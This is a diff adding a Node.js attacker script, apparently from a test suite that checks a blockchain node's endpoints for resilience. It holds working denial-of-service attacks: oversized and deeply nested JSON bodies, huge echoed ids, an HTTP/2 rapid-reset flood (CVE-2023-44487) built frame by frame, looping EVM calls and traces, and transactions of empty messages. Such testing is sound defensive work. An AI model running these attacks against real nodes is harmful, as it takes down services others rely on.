@@ -1,0 +1,201 @@
+/**
+ * One hostile client in a process of its own: `node test/attacks/attacker.js NAME ENDPOINTS SECONDS SIZE`, where
+ * ENDPOINTS is the member `endpoints` of a ready file. Repeats an attack for SECONDS, once when that is 0, and prints a
+ * line of JSON: how many answers of each kind it got, each shown by status and first characters.
+ */
+import { Agent, request } from 'node:http';
+import { connect } from 'node:net';
+
+const MIB = 1024 * 1024;
+/** JUMPDEST, PUSH1 0, JUMP: runs until its gas is used up. */
+const LOOP = '0x5b600056';
+const LOOPING = '0x00000000000000000000000000000000000100a0';
+
+/** @typedef {{ comet: string, eth_http: string, eth_ws: string, grpc: string, rest: string }} Endpoints */
+/** @typedef {(endpoints: Endpoints, size: number, seen: (answer: string) => void) => Promise<unknown>} Attack */
+
+/** @type {Readonly<Record<string, Attack>>} */
+const ATTACKS = {
+  /** Bodies of 5 MiB of white space, all at once. */
+  blanks: (to, size, seen) => together(size, () => post(to.eth_http, Buffer.alloc(5 * MIB, ' ')).then(seen)),
+  /** Bodies of 5 MiB that are one text each: nothing about them can be refused early. */
+  texts: (to, size, seen) =>
+    together(size, () => post(to.eth_http, rpc('web3_sha3', [`0x${'ab'.repeat(2 * MIB)}`])).then(seen)),
+  /** Bodies that open arrays and close none, on every face that reads JSON. */
+  depth: (to, size, seen) =>
+    together(size, async () => {
+      for (const url of [to.eth_http, to.comet, `${to.rest}/cosmos/tx/v1beta1/simulate`]) {
+        seen(await post(url, '['.repeat(url === to.comet ? 999_999 : 5 * MIB)));
+        seen(await post(url, `{"id":1,"method":"x","params":${'['.repeat(90_000)}`));
+      }
+    }),
+  /** Objects whose members all have names of their own. */
+  names: (to, size, seen) =>
+    together(size, async (at) => {
+      const members = Array.from({ length: 99_000 }, (_, index) => `"${at}n${index}":0`);
+      seen(await post(to.eth_http, `{"id":1,"method":"eth_chainId","params":[{${members.join(',')}}]}`));
+    }),
+  /** Arrays of millions of numbers. */
+  numbers: (to, size, seen) => together(size, async () => seen(await post(to.eth_http, `[${'1,'.repeat(2 * MIB)}1]`))),
+  /** An id of 5 MB, which the answer would repeat. */
+  echo: (to, size, seen) =>
+    together(size, async () => {
+      seen(await post(to.eth_http, rpc('eth_chainId', [], 'i'.repeat(5_000_000))));
+      seen(await post(to.comet, rpc('status', {}, 'i'.repeat(900_000))));
+    }),
+  /** Calls that are reset as soon as they are opened (CVE-2023-44487), on four connections at a time. */
+  resets: (to, size, seen) => together(4, async () => seen(await resetting(to.grpc, size))),
+  /** Traces of every step of a loop, some of them just short enough to be answered. */
+  traces: (to, size, seen) =>
+    together(size, async (at) => {
+      const gas = `0x${(at % 2 === 0 ? 2_000_000 : 400_000).toString(16)}`;
+      seen(await post(to.eth_http, rpc('debug_traceCall', [...looping(gas), { stateOverrides: code() }])));
+    }),
+  /** One batch of calls that loop. */
+  loops: (to, size, seen) => {
+    const call = rpc('eth_call', [...looping(), code()]);
+    return post(to.eth_http, `[${Array.from({ length: size }, () => call).join(',')}]`).then((answer) => {
+      seen(answer);
+      const late = answer.split('timed out').length - 1;
+      seen(`${late > 0 ? 'some' : 'no'} calls of the batch timed out`);
+    });
+  },
+  /** Transactions of many empty messages. */
+  messages: async (to, size, seen) => {
+    const tx = emptyMessages(size).toString('base64');
+    for (let sent = 0; sent < 4; sent += 1) seen(await post(to.comet, rpc('broadcast_tx_sync', { tx })));
+  },
+  /** The whole contents of the pool, again and again. */
+  pool: (to, size, seen) => together(size, () => post(to.eth_http, rpc('txpool_content', [])).then(seen)),
+};
+
+const [name = '', endpoints = '{}', seconds = '0', size = '1'] = process.argv.slice(2);
+const attack = ATTACKS[name];
+if (attack === undefined) throw new Error(`one of ${Object.keys(ATTACKS).join(', ')}`);
+/** @type {Record<string, number>} */
+const answers = {};
+const begun = performance.now();
+do {
+  await attack(JSON.parse(endpoints), Number(size), (answer) => {
+    const shown = answer.slice(0, 200);
+    answers[shown] = (answers[shown] ?? 0) + 1;
+  });
+} while (performance.now() - begun < Number(seconds) * 1_000);
+process.stdout.write(`${JSON.stringify({ milliseconds: Math.round(performance.now() - begun), answers })}\n`);
+process.exit(0);
+
+/** @type {(count: number, run: (at: number) => Promise<unknown>) => Promise<unknown>} */
+function together(count, run) {
+  return Promise.all(Array.from({ length: count }, (_, at) => run(at)));
+}
+
+/** @type {(method: string, params: unknown, id?: unknown) => string} */
+function rpc(method, params, id = 1) {
+  return JSON.stringify({ jsonrpc: '2.0', id, method, params });
+}
+
+function looping(gas = '0x2faf080') {
+  return [{ to: LOOPING, gas }, 'latest'];
+}
+
+function code() {
+  return { [LOOPING]: { code: LOOP } };
+}
+
+/** Status and beginning of the answer, or the error of the connection. */
+/** @type {(url: string, body: string | Buffer) => Promise<string>} */
+function post(url, body) {
+  return new Promise((resolve) => {
+    const asked = request(
+      url,
+      { method: 'POST', agent: new Agent(), headers: { 'content-type': 'application/json' } },
+      (response) => {
+        let text = '';
+        let bytes = 0;
+        response.on('data', (/** @type {Buffer} */ chunk) => {
+          bytes += chunk.length;
+          if (text.length < MIB) text += chunk.toString();
+        });
+        response.on('error', () => resolve(`${response.statusCode} cut after ${bytes} bytes`));
+        response.on('end', () => resolve(`${response.statusCode} ${text}`));
+      },
+    );
+    asked.on('error', (/** @type {NodeJS.ErrnoException} */ error) => resolve(error.code ?? 'error'));
+    asked.end(body);
+  });
+}
+
+/** Opens and resets `count` calls on one connection; the code of the GOAWAY that ends it, 0 when there is none. */
+/** @type {(address: string, count: number) => Promise<string>} */
+function resetting(address, count) {
+  const [host, port] = address.split(':');
+  return new Promise((resolve) => {
+    let received = Buffer.alloc(0);
+    const socket = connect(Number(port), host, () => {
+      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
+      socket.write(frame(4, 0, 0, Buffer.alloc(0)));
+      const path = '/cosmos.bank.v1beta1.Query/TotalSupply';
+      const headers = Buffer.concat([
+        Buffer.from([0x83, 0x86, 0x04, path.length]),
+        Buffer.from(path),
+        Buffer.from([0x01, 1]),
+        Buffer.from('a'),
+        Buffer.from([0x0f, 0x10, 16]),
+        Buffer.from('application/grpc'),
+      ]);
+      const calls = [];
+      for (let call = 0; call < count; call += 1) {
+        calls.push(frame(1, 4, 2 * call + 1, headers), frame(3, 0, 2 * call + 1, Buffer.from([0, 0, 0, 8])));
+      }
+      socket.write(Buffer.concat(calls));
+      // the answer to this ping comes behind the calls
+      socket.write(frame(6, 0, 0, Buffer.alloc(8)));
+    });
+    const end = () => {
+      const goaway = goAwayOf(received);
+      resolve(goaway === undefined ? 'no GOAWAY' : `GOAWAY ${goaway}`);
+    };
+    socket.on('data', (chunk) => {
+      received = Buffer.concat([received, chunk]);
+      if (received.includes(Buffer.from([0, 0, 8, 6, 1])) || goAwayOf(received) !== undefined) socket.destroy();
+    });
+    socket.on('error', () => undefined);
+    socket.on('close', end);
+  });
+}
+
+/** @type {(type: number, flags: number, stream: number, payload: Buffer) => Buffer} */
+function frame(type, flags, stream, payload) {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head[3] = type;
+  head[4] = flags;
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+
+/** @type {(bytes: Buffer) => number | undefined} */
+function goAwayOf(bytes) {
+  for (let at = 0; at + 17 <= bytes.length; at += 9 + bytes.readUIntBE(at, 3))
+    if (bytes[at + 3] === 7) return bytes.readUInt32BE(at + 13);
+  return undefined;
+}
+
+/** A transaction of `count` messages without content and an empty signature. */
+/** @type {(count: number) => Buffer} */
+function emptyMessages(count) {
+  const url = Buffer.from('/cosmos.bank.v1beta1.MsgSend');
+  const any = Buffer.concat([Buffer.from([0x0a, url.length]), url]);
+  const message = Buffer.concat([Buffer.from([0x0a, any.length]), any]);
+  const body = Buffer.concat(Array.from({ length: count }, () => message));
+  return Buffer.concat([Buffer.from([0x0a]), varint(body.length), body, Buffer.from([0x12, 0, 0x1a, 0])]);
+}
+
+/** @type {(value: number) => Buffer} */
+function varint(value) {
+  const bytes = [];
+  for (let rest = value; ; rest = Math.floor(rest / 128)) {
+    if (rest < 128) return Buffer.from([...bytes, rest]);
+    bytes.push((rest % 128) | 128);
+  }
+}
